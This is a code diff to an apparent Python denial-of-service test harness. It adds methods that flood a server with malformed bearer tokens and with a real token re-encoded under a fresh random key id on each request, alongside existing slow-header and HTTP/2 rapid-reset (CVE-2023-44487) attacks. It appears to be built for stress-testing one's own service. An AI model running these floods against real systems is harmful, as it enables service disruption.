@@ -7,8 +7,10 @@ there. Either says in place of its first word what keeps it from starting.
 """
 
 import asyncio
+import base64
 import json
 import os
+import re
 import resource
 import socket
 import ssl
@@ -23,6 +25,7 @@ HALF_HEAD = GET + b"X-Slow: "
 WHOLE = GET + b"\r\n"
 # Answered without the application, whose time is not what is measured.
 REFUSED = b"GET /attack HTTP/1.1\r\nHost: a\r\n\r\n"
+LENGTH = re.compile(rb"(?i)\r\ncontent-length: *(\d+)")
 # A header block in static and literal fields only: :method GET, :scheme http, :path, :authority a.
 HEADERS = bytes([0x82, 0x86, 0x04, len(PATH)]) + PATH + bytes([0x01, 1]) + b"a"
 # One for all: the CAs of the system, which would be read each time, are not needed for a hello.
@@ -180,6 +183,33 @@ class Attack:
         for _ in range(50):
             _, other = await self.connect()
             self.leave(other)
+
+    async def malformed(self, reader, writer, event):
+        """Something where a token should be, again and again."""
+        await self.tokens(reader, writer, event, lambda: "a.b.c")
+
+    async def kids(self, reader, writer, event):
+        """The token that ATTACK_TOKEN has, under a key id of its own each time."""
+        header, *rest = os.environ["ATTACK_TOKEN"].split(".")
+        header = json.loads(base64.urlsafe_b64decode(header + "=" * (-len(header) % 4)))
+
+        def token():
+            named = json.dumps(header | {"kid": os.urandom(16).hex()}).encode()
+            return ".".join([base64.urlsafe_b64encode(named).rstrip(b"=").decode(), *rest])
+
+        await self.tokens(reader, writer, event, token)
+
+    async def tokens(self, reader, writer, event, token):
+        """As many a second as ATTACK_RATE says, or as go; the tally has how often each status was the answer."""
+        event.set()
+        pause = 8 / float(os.environ.get("ATTACK_RATE", "inf"))
+        while True:
+            writer.write(REFUSED[:-2] + b"Authorization: Bearer " + token().encode() + b"\r\n\r\n")
+            head = await reader.readuntil(b"\r\n\r\n")
+            await reader.readexactly(int(LENGTH.search(head)[1]))
+            status = head.split(b" ")[1].decode()
+            self.tally[status] = self.tally.get(status, 0) + 1
+            await asyncio.sleep(pause)
 
     async def reset(self, reader, writer, event):
         """Requests that are taken back at once (CVE-2023-44487)."""
